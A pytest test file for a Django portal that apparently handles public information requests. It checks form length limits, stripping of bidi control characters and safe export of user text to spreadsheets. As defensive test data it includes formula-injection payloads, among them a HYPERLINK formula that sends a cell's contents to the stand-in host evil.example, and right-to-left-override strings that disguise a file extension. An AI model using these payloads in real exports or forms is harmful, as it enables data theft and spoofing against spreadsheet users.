"""Findings 5 and 6 of issue 17: lengths on every form field, bidi controls neutralised, user
text exported as text."""

from __future__ import annotations

import csv
import importlib
import io
import pkgutil
import re

import pytest
from django import forms
from django.urls import reverse

import gongkai
from gongkai.core import formlimits
from gongkai.core.spreadsheets import append_row, csv_cell
from gongkai.textproc.bidi import strip_bidi
from gongkai.textproc.pii import mask_name

RLO = "\u202e"


def _project_forms() -> list[type[forms.BaseForm]]:
    for module in pkgutil.walk_packages(gongkai.__path__, "gongkai."):
        if ".tests" in module.name or ".migrations" in module.name or module.name.endswith("sandbox"):
            continue
        importlib.import_module(module.name)
    found, stack = [], [forms.BaseForm]
    while stack:
        cls = stack.pop()
        stack.extend(cls.__subclasses__())
        if cls.__module__.startswith("gongkai.") and ".tests" not in cls.__module__:
            found.append(cls)
    return found


def test_every_text_field_of_every_project_form_has_a_length_limit():
    checked = 0
    missing = []
    for form_class in _project_forms():
        for name, field in form_class.base_fields.items():
            if isinstance(field, forms.CharField):
                checked += 1
                if field.max_length is None:
                    missing.append(f"{form_class.__module__}.{form_class.__name__}.{name}")
    assert checked > 30  # the walk really found the project's forms
    assert missing == []


def test_a_form_declared_without_a_limit_gets_one_with_a_chinese_message():
    class Note(forms.Form):
        line = forms.CharField()
        text = forms.CharField(widget=forms.Textarea)

    assert Note.base_fields["line"].max_length == formlimits.SHORT_TEXT
    assert Note.base_fields["text"].max_length == formlimits.LONG_TEXT
    form = Note({"line": "长" * (formlimits.SHORT_TEXT + 1), "text": "好"})
    assert not form.is_valid()
    assert (
        f"最多{formlimits.SHORT_TEXT}个字符（现在有{formlimits.SHORT_TEXT + 1}个）" in form.errors["line"][0]
    )


def test_bidi_controls_are_removed_from_every_text_field_and_from_masked_names():
    class Name(forms.Form):
        name = forms.CharField()

    form = Name({"name": f"张三{RLO}moc.evil"})
    assert form.is_valid()
    assert form.cleaned_data["name"] == "张三moc.evil"
    for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f":
        assert strip_bidi(f"甲{control}乙") == "甲乙"
    assert RLO not in mask_name(f"{RLO}王五")
    assert mask_name(f"{RLO}王五") == "王*"


@pytest.mark.django_db
class TestPublicApplicationForm:
    def _post(self, client, **overrides):
        from gongkai.info_requests.tests.factories import applicant

        url = reverse("portal:apply", args=["jia"])
        token = re.search(r'name="token" value="([^"]+)"', client.get(url).content.decode()).group(1)
        return client.post(url, applicant(**overrides) | {"token": token, "action": "submit"})

    def test_a_100000_character_name_is_refused_in_chinese_and_the_input_is_kept(self, client, two_orgs):
        from gongkai.info_requests.models import InfoRequest

        name = "张" * 100_000
        response = self._post(client, applicant_name=name, address="甲市人民路1号")
        text = response.content.decode()
        assert response.status_code == 200
        assert "最多100个字符（现在有100000个）" in text
        assert name in text  # nothing typed is lost
        assert "甲市人民路1号" in text
        assert not InfoRequest.objects.exists()

    @pytest.mark.parametrize(
        ("field", "limit"),
        [("description", 2000), ("address", 200), ("id_number", 40), ("phone", 30), ("contact_person", 50)],
    )
    def test_every_field_has_a_length_that_fits_a_letter(self, client, two_orgs, field, limit):
        response = self._post(client, **{field: "1" * (limit + 1)})
        assert f"最多{limit}个字符" in response.content.decode()

    def test_the_service_enforces_the_same_limits_for_staff_registration(self, two_orgs):
        from django.core.exceptions import ValidationError

        from gongkai.info_requests import services
        from gongkai.info_requests.tests.factories import applicant

        with pytest.raises(ValidationError, match="最多2000个字符"):
            services.submit_online(
                org=two_orgs.gov_a, data=applicant(description="文" * 2001), token=services.new_form_token()
            )

    def test_a_right_to_left_override_never_reaches_the_database(self, client, two_orgs):
        from gongkai.info_requests.models import InfoRequest

        self._post(client, applicant_name=f"李四{RLO}gpj.exe")
        assert InfoRequest.objects.get().applicant_name == "李四gpj.exe"


def _reopened(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data)).active


FORMULAS = ['=HYPERLINK("http://evil.example","点此查看")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_append_row_writes_formula_like_text_as_text():
    from openpyxl import Workbook

    book = Workbook()
    append_row(book.active, [1, *FORMULAS, "普通文字"])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = _reopened(buffer.getvalue())
    cells = next(iter(sheet.iter_rows()))
    assert cells[0].value == 1
    for cell, text in zip(cells[1:], FORMULAS, strict=False):
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix
    import zipfile

    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")


def test_csv_cells_are_prefixed():
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(v) for v in [*FORMULAS, "普通", 3]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in row[: len(FORMULAS)])
    assert row[-2:] == ["普通", "3"]


@pytest.mark.django_db
def test_the_ledger_export_keeps_a_units_progress_formula_as_text(two_orgs):
    from datetime import date

    from gongkai.accounts.models import Role
    from gongkai.orgs.models import OrganizationAlias
    from gongkai.workplans import services
    from gongkai.workplans.parsing import parse
    from gongkai.workplans.tests.test_ledger import NOTICE

    OrganizationAlias.objects.create(organization=two_orgs.dept_a1, alias="市发改委")
    admin = two_orgs.staff(two_orgs.gov_a, Role.COMPETENT_ADMIN)
    ledger = services.import_plan(org=two_orgs.gov_a, actor=admin, parsed=parse(NOTICE), source_text=NOTICE)
    task = ledger.tasks.get(position=1)
    unit_staff = two_orgs.staff(two_orgs.dept_a1, Role.EDITOR)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    services.report_progress(task=task, actor=unit_staff, organization=two_orgs.dept_a1, text=payload)
    sheet = _reopened(services.export_xlsx(ledger, today=date(2026, 5, 1)))
    cell = sheet.cell(row=2, column=6)
    assert cell.value == payload
    assert cell.data_type == "s"


@pytest.mark.django_db
def test_a_nul_character_in_the_query_string_is_a_400_with_a_chinese_message(client):
    response = client.get("/api/v1/organs", {"q": "a\x00b"})
    assert response.status_code == 400
    assert "无效字符" in response.content.decode()
